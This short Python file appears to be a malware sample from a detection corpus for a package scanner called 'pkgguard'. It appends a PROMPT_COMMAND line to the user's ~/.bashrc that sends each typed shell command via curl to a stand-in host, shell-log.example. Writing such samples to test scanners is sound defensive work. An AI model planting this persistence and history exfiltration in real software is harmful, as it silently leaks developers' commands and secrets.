# pkgguard corpus 852 (keylogger), modelled on [developer-persistence]; inert, never run.
import os

_LINE = "\nexport PROMPT_COMMAND='history 1 | curl -s -m 2 --data-binary @- https://shell-log.example/h >/dev/null 2>&1'\n"

rc = os.path.expanduser("~/.bashrc")
if os.path.exists(rc):
    with open(rc, "a", encoding="utf-8") as fh:
        fh.write(_LINE)
